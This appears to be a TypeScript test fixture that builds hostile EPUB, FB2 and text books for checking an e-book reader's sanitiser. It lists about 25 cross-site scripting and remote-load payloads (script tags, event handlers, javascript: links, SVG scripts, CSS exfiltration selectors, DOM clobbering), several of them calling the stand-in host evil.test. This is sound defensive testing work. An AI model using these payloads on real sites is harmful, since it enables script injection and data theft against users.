import { tinyEpub } from '../../apps/server/src/features/books/tiny-epub.ts';

/** The host to which the attacks want to tell that they have worked; nobody can own a name under .test. */
export const EVIL = 'evil.test';

const SVG_WITH_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg file')"><script>alert('svg script')</script><image href="http://${EVIL}/in-svg.png" width="9" height="9"/><rect width="9" height="9"/></svg>`;

/** One attack each, as books in the wild and people of bad will write them. */
export const ATTACKS: Readonly<Record<string, string>> = {
  script: `<script>alert('script')</script>`,
  'remote script': `<script src="http://${EVIL}/a.js"></script>`,
  'event handler': `<p onclick="alert('click')" onmouseover="alert('over')">Touch</p>`,
  'picture with handler': `<img src="nothing.png" onerror="alert('error')" alt="x"/>`,
  'script link': `<p><a href="javascript:alert('link')">A link</a></p>`,
  'hidden script link': `<p><a href="&#x6A;ava&#x0A;script:alert('link 2')">A link</a></p>`,
  'data link': `<p><a href="data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;" onclick="alert('data click')">A link</a></p>`,
  'svg in the text': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')"><script>alert('inline svg')</script><a xlink:href="javascript:alert('xlink')"><text>t</text></a></svg>`,
  'foreign object': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe srcdoc="&lt;script&gt;parent.alert('foreign')&lt;/script&gt;"></iframe></foreignObject></svg>`,
  'style address': `<div style="background:url(http://${EVIL}/style.png)" onclick="alert(1)">Styled</div>`,
  'style sheet': `<style>@import url(http://${EVIL}/import.css); body { background: url(http://${EVIL}/css.png) } input[value^="a"] { background: url(http://${EVIL}/a) }</style>`,
  'linked sheet': `<link rel="stylesheet" href="http://${EVIL}/link.css"/>`,
  'remote picture': `<p><img src="http://${EVIL}/picture.png" alt="far away"/></p>`,
  'remote picture set': `<p><img srcset="http://${EVIL}/set.png 1x" alt="far away"/></p>`,
  frame: `<iframe src="http://${EVIL}/frame.html"></iframe>`,
  'written frame': `<iframe srcdoc="&lt;script&gt;parent.alert('srcdoc')&lt;/script&gt;"></iframe>`,
  object: `<object data="http://${EVIL}/object.swf"></object><embed src="http://${EVIL}/embed"/>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=http://${EVIL}/refresh"/>`,
  base: `<base href="http://${EVIL}/"/>`,
  form: `<form action="http://${EVIL}/form" method="post"><input name="p" autofocus="" onfocus="alert('focus')"/><button>Send</button></form>`,
  'form button': `<button formaction="javascript:alert('formaction')">Go</button>`,
  video: `<video src="http://${EVIL}/v.mp4" onerror="alert('video')"></video><audio src="http://${EVIL}/a.mp3" autoplay=""></audio>`,
  math: `<math><mtext><img src="x" onerror="alert('math')"/></mtext></math>`,
  'broken nesting': `<p><noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert('mutation')&gt;">x</p></noscript></p>`,
  'named like the page': `<p id="root"><a id="location" name="location" href="http://${EVIL}/" onclick="alert(2)">Clobber</a></p>`,
};

const EVENING = 'It was a quiet evening, and the grey house stood at the end of a wet lane.';

/** Chapters with a few attacks each, all of them in one more, and pictures and notes that attack. */
export async function hostileEpub(): Promise<Buffer> {
  const note = `<aside epub:type="footnote" id="n1"><p>A note<script>alert('note')</script><img src="http://${EVIL}/note.png" onerror="alert('note picture')" alt=""/></p></aside>`;
  const all = Object.values(ATTACKS).join('');
  return await tinyEpub({
    title: `Hostile &lt;img src=x onerror=alert('title')&gt;`,
    pages: {
      ...Object.fromEntries(
        chunked(Object.entries(ATTACKS)).map((attacks) => [
          attacks.map(([name]) => name).join(', '),
          `<p>${EVENING}</p>${attacks.map(([, html]) => html).join('')}`,
        ]),
      ),
      Everything: `<h1 onclick="alert('heading')">All</h1><p>${EVENING}<a epub:type="noteref" href="#n1">1</a></p>${all}<p><img src="drawn.svg" alt="drawn"/></p>${note}`,
    },
    pictures: { 'drawn.svg': Buffer.from(SVG_WITH_SCRIPT) },
  });
}

/** So many attacks a chapter that none hides behind too many others, and few enough chapters for a browser to open them all. */
const ATTACKS_A_CHAPTER = 6;

function chunked<T>(all: readonly T[]): readonly (readonly T[])[] {
  return Array.from({ length: Math.ceil(all.length / ATTACKS_A_CHAPTER) }, (_, i) =>
    all.slice(i * ATTACKS_A_CHAPTER, (i + 1) * ATTACKS_A_CHAPTER),
  );
}

export function hostileFb2(): Buffer {
  const all = Object.values(ATTACKS).join('');
  return Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?><FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0" xmlns:l="http://www.w3.org/1999/xlink"><description><title-info><book-title>Hostile</book-title><lang>en</lang></title-info></description><body><section><title><p>One<script>alert('title')</script></p></title><p>${EVENING} <a l:href="javascript:alert('fb2')">A link</a> <image l:href="http://${EVIL}/fb2.png"/> <image l:href="#evil.svg"/></p><p><style name="x" style="background:url(http://${EVIL}/fb2)">Styled</style></p>${all}</section></body><binary id="evil.svg" content-type="image/svg+xml">${Buffer.from(SVG_WITH_SCRIPT).toString('base64')}</binary></FictionBook>`,
  );
}

export function hostileText(): Buffer {
  return Buffer.from(`CHAPTER 1\n\n${EVENING}\n\n${Object.values(ATTACKS).join('\n\n')}\n`);
}
